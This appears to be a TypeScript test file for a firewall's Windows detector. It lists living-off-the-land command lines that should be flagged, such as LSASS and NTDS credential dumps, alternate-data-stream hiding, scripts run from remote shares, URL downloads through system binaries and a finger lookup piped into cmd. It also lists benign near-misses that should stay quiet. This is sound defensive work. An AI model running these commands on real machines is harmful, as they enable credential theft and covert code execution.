/**
 * The roles of a Windows program's arguments (`_windows-roles.ts` and the line readings of the
 * `windows` detector): what a line fetches, loads or runs, and from where. Cases written here, in
 * the shapes living-off-the-land catalogs document (own binaries' names where the reading is about
 * roles, own hosts and paths throughout); ordinary uses of the same programs stay quiet.
 */
import { describe, expect, it } from 'vitest';
import { alternateStream, roleReading } from '../../../src/firewall/detectors/_windows-roles.js';
import { windowsDetector } from '../../../src/firewall/detectors/windows.js';
import { idsOf, principleTables } from './_scan.js';

const ids = (text: string) => idsOf(windowsDetector, text);

/** [principle, finding id, text]. */
const POSITIVES: ReadonlyArray<readonly [string, string, string]> = [
  [
    'a file written into an alternate data stream',
    'windows.alternate-stream',
    'type C:\\Tools\\agent.exe > C:\\Users\\Public\\notes.txt:agent.exe',
  ],
  [
    'a program started from a stream',
    'windows.alternate-stream',
    'wmic.exe process call create C:\\Temp\\log.txt:run.exe',
  ],
  ['a stream as a switch value', 'windows.alternate-stream', 'fooutil.exe /out:C:\\Data\\report.pdf:hidden.ps1'],
  [
    'a library from a writable folder handed to a system binary',
    'windows.lolbin-exec',
    'contosohost.exe /load C:\\Users\\Public\\Libraries\\ext.dll',
  ],
  ['a script from a share', 'windows.lolbin-exec', 'diagrunner.exe -script \\\\203.0.113.8\\drop\\go.ps1'],
  ['a control panel item from temp', 'windows.lolbin-exec', 'control.exe %TEMP%\\display.cpl'],
  ['a console snap-in from AppData', 'windows.lolbin-exec', 'mmc -Embedding %APPDATA%\\tools\\view.msc'],
  [
    'a program from Downloads, after a switch with a comma',
    'windows.lolbin-exec',
    'explorer.exe /select,"C:\\Users\\ana\\Downloads\\invoice.exe"',
  ],
  [
    'a URL handed to an application that saves what it serves',
    'windows.lolbin-download',
    'reportviewer.exe https://198.51.100.71/q/summary',
  ],
  ['a URL glued to its switch', 'windows.lolbin-download', 'wizardhost.exe RunPage /shttp://203.0.113.4/page'],
  ['a browser fed a program', 'windows.lolbin-download', 'msedge.exe https://dl.example.org/tools/update.exe.txt'],
  [
    'a headless browser writing a page to disk',
    'windows.lolbin-download',
    'chrome.exe --headless --dump-dom https://pages.example.org/blob > blob.txt',
  ],
  ['a program named by a launch switch', 'windows.lolbin-exec', 'perfcollector.exe begin /launch:helper.exe'],
  ['a launch switch with its value in the next word', 'windows.lolbin-exec', 'testhost.exe --processStart runme.bat'],
  [
    'a shell command in a switch value',
    'windows.lolbin-exec',
    'viewer.exe --renderer-cmd="cmd.exe /c C:\\Users\\Public\\x.bat &&"',
  ],
  ['a shell command for a proxy option', 'windows.lolbin-exec', 'sftp -o ProxyCommand="powershell -nop -c calc" host'],
  ['a debugger shell command', 'windows.lolbin-exec', '.shell cmd.exe /c C:\\ProgramData\\job\\start.bat'],
  ['a command after a climbing path', 'windows.lolbin-exec', 'helperapp.exe /../../$(notepad).exe'],
  ['a command after a climbing quoted path', 'windows.lolbin-exec', 'tool.exe -root "../../../; payload.exe ;"'],
  ['a program run from an addressed share', 'windows.lolbin-exec', '\\\\192.0.2.61\\pub\\viewer.exe /silent'],
  ['a process image by id', 'windows.credential-dump', 'memsnap.exe --pid 4410 --dumptype full --out C:\\x.dmp'],
  ['a dumper by name, a process id', 'windows.credential-dump', 'quickdump.exe 712 out.dmp'],
  ['LSASS named to a hang dump', 'windows.credential-dump', 'dbgtool.exe -hang -pn lsass.exe -o C:\\dumps'],
  [
    'the directory database snapshotted',
    'windows.credential-dump',
    'dirtool.exe "activate instance ntds" "snapshot" "create" "quit"',
  ],
  ['a network lookup piped into a shell', 'windows.download-exec', 'finger list@198.51.100.4 | more +3 | cmd'],
  ['a system variable pointed elsewhere', 'windows.env-hijack', 'set SystemRoot=C:\\Users\\Public\\fake& helper.exe'],
  ['rundll32 by ordinal', 'windows.lolbin-exec', 'rundll32.exe contoso.dll,#12 extra.dll'],
  ['rundll32 of a COM class', 'windows.lolbin-exec', 'rundll32.exe -sta {11111111-2222-3333-4444-555555555555}'],
  [
    'rundll32 handed a screen saver by path',
    'windows.lolbin-exec',
    'rundll32.exe desk.cpl,InstallScreenSaver C:\\Users\\Public\\s.scr',
  ],
  ['rundll32 of a library in temp', 'windows.lolbin-exec', 'rundll32 C:\\Windows\\Temp\\x.dll,Start'],
  [
    'a file zeroed over a range',
    'windows.wipe-free-space',
    'fsutil file setzerodata offset=0 length=4096 C:\\data\\a.db',
  ],
];

/** Ordinary uses of the same programs and shapes: the windows detector reports nothing. */
const NEAR_MISSES: readonly string[] = [
  'certutil -hashfile C:\\Users\\Public\\Downloads\\setup.exe SHA256',
  'sigcheck.exe -a C:\\Users\\ana\\Downloads\\tool.exe',
  'robocopy \\\\fileserver\\deploy\\agent C:\\Agents\\agent /E',
  'taskkill.exe /im notepad.exe /f',
  'explorer.exe C:\\Users\\ana\\Documents',
  'explorer.exe \\\\fileserver\\teams',
  'msedge.exe https://learn.example.org/docs/start',
  'control.exe /name Microsoft.Sound',
  'rundll32.exe shell32.dll,Control_RunDLL desk.cpl',
  'rundll32 printui.dll,PrintUIEntry /il',
  'mshta.exe "C:\\Program Files\\Fabrikam\\Guide\\start.hta"',
  'notepad.exe C:\\Temp\\deploy.ps1',
  'git.exe clone https://git.example.org/team/app.git',
  'python.exe -m pip download https://pkgs.example.org/lib-1.0.tar.gz',
  'forfiles /p C:\\Reports /m *.csv /c "cmd /c echo @path"',
  'procdump.exe -ma -e 1 Contoso.Worker.exe C:\\Dumps\\worker.dmp',
  'set PATH=C:\\Tools;%PATH% & build.exe',
  'ntdsutil "metadata cleanup" quit',
  'http://localhost:8080/health is what the probe calls',
  'uvicorn app.main:app --port 8000',
  'bginfo.exe C:\\ProgramData\\Corp\\desk.bgi /timer:0 /silent',
  'docker.exe run --rm -v C:\\Temp:/data alpine ls /data',
  'npm.cmd run build',
  'dotnet.exe run --project src\\Web',
];

describe('the windows detector, argument roles', () => {
  principleTables('roles', ids, POSITIVES, NEAR_MISSES);
});

describe('alternate data streams', () => {
  it('reads file.ext:stream, not drives, URLs, ports or line numbers', () => {
    expect(alternateStream('c:\\x\\a.txt:payload.exe')).toBe(true);
    expect(alternateStream('report.dat:ads')).toBe(true);
    expect(alternateStream('c:\\x\\a.txt')).toBe(false);
    expect(alternateStream('c:')).toBe(false);
    expect(alternateStream('https://a.example/x.txt:80')).toBe(false);
    expect(alternateStream('host.example:8443')).toBe(false);
    expect(alternateStream('main.py:12')).toBe(false);
    expect(alternateStream('app.main:app')).toBe(false);
    expect(alternateStream('a.txt::$data')).toBe(false);
  });
});

describe('roleReading', () => {
  it('leaves inspectors and copiers alone', () => {
    expect(roleReading('signtool.exe', 'signtool', ['sign', 'c:\\users\\public\\a.exe'])).toBeNull();
    expect(roleReading('curl.exe', 'curl', ['-o', 'c:\\users\\public\\a.exe', 'https://x.example/a.exe'])).toBeNull();
  });

  it('needs a program written as one, or a known proxy', () => {
    expect(roleReading('helper', 'helper', ['c:\\users\\public\\a.dll'])).toBeNull();
    expect(roleReading('helper.exe', 'helper', ['c:\\users\\public\\a.dll'])).toEqual(['windows.lolbin-exec', 'high']);
    expect(roleReading('control', 'control', ['c:\\users\\public\\a.cpl'])).toEqual(['windows.lolbin-exec', 'high']);
  });
});
